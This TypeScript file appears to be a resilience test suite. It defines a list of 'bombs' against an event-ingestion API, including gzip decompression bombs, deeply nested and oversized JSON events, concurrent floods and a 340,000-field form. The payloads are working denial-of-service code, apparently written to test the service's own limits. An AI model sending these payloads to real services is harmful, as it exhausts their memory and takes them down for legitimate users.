import { gzipSync } from "node:zlib";
import {
  type Blow,
  type HostileClient,
  many,
  send,
  sendGzip,
  type Target,
  together,
} from "./hostile-client";

// Little on the wire, much in memory. None needs a key that is known.

const MEGABYTE = 1_048_576;
/** Just below what `/batch` takes. */
const INFLATED_BYTES = 20 * MEGABYTE - 1_000;
const UNKNOWN_KEY = "0123456789abcdef0123456789abcdef";

const fill = (unit: string) => unit.repeat(Math.floor(INFLATED_BYTES / unit.length));
const inEvents = (key: string, content: string) => `{"api_key":"${key}","events":[${content}]}`;

const OBJECTS = gzipSync(inEvents(UNKNOWN_KEY, `${fill("{},").slice(0, -1)}`));
const BRACKETS = gzipSync(fill("["));
/** Inflates to twenty times what is taken. */
const ZEROS = gzipSync(Buffer.alloc(400 * MEGABYTE));

const sendPacked = (target: Target, body: Buffer): Promise<Blow> =>
  send(target, "/batch", { body, headers: { "Content-Encoding": "gzip" } });

const bomb = (
  name: string,
  strike: HostileClient["strike"],
  rest: Partial<HostileClient> = {},
): HostileClient => ({
  name,
  surface: "/batch",
  needs: "the network",
  meansHarm: true,
  strike,
  ...rest,
});

/** Events, written by hand, under a known key. */
const eventsBomb = (name: string, events: (round: number) => string): HostileClient =>
  bomb(
    name,
    (target, round) => sendGzip(target, "/batch", inEvents(target.apiKey, events(round))),
    { needs: "the public key" },
  );

export const BOMBS: readonly HostileClient[] = [
  bomb("20 MB of {},{},… as 20 KB of gzip, unknown key", (target) => sendPacked(target, OBJECTS)),
  bomb("20 MB of [[[[… as 20 KB of gzip", (target) => sendPacked(target, BRACKETS)),
  bomb("six of the last at once", (target) =>
    together(many(6, () => sendPacked(target, BRACKETS))),
  ),
  bomb("400 MB of zeros as gzip", (target) => sendPacked(target, ZEROS)),
  eventsBomb("20 MB of {},{},… under a known key", () => fill("{},").slice(0, -1)),
  eventsBomb(
    "one event with a list of 10 million numbers",
    (round) =>
      `{"event_type":"Long","user_id":"long-${round}","event_properties":{"x":[${fill("1,").slice(0, -201)}]}}`,
  ),
  eventsBomb(
    "one event of 200,000 properties",
    (round) =>
      `{"event_type":"Wide","user_id":"wide-${round}","event_properties":{${many(200_000, (n) => `"p${n}":${n}`).join(",")}}}`,
  ),
  eventsBomb(
    "one event 100,000 levels deep",
    (round) =>
      `{"event_type":"Deep","user_id":"deep-${round}","event_properties":{"x":${'{"x":'.repeat(100_000)}1${"}".repeat(100_000)}}}`,
  ),
  bomb(
    "a form of 340,000 fields",
    (target) =>
      send(target, "/identify", {
        body: gzipSync(`api_key=${UNKNOWN_KEY}&${"a=&".repeat(340_000)}`),
        headers: {
          "Content-Encoding": "gzip",
          "Content-Type": "application/x-www-form-urlencoded",
        },
      }),
    { surface: "/identify" },
  ),
];
